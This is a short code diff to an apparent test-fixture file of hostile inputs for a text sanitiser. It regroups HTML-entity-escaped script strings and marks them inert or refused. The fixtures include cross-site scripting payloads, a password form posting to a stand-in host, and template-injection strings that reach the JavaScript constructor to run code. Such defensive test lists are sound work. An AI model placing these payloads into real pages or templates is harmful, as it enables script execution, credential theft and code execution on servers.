@@ -20,9 +20,9 @@ const markup = [
   '"><script>alert(1)</script>',
   "' onmouseover='alert(1)",
   '" autofocus onfocus="alert(1)',
-  "&lt;script&gt;alert(1)&lt;/script&gt;",
   "<form action=https://boese.example/><input type=password>",
 ];
+const escaped = ["&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;"];
 const templates = [
   `{{ ({}).constructor.constructor(${quoted(code)})() }}`,
   `{% set x = cycler.constructor(${quoted(code)}) %}{{ x() }}`,
@@ -46,6 +46,9 @@ export const templatesInText: readonly HostileCase[] = [
 export const markupInText: readonly HostileCase[] = [
   ...each("inert", markup, inProse),
   ...each("inert", markup, everywhere),
+  ...each("inert", escaped, inProse),
+  // In facts an entity would be read as it stands.
+  ...each("refused", escaped, everywhere),
 ];
 
 /** Formulas and calendar lines. */
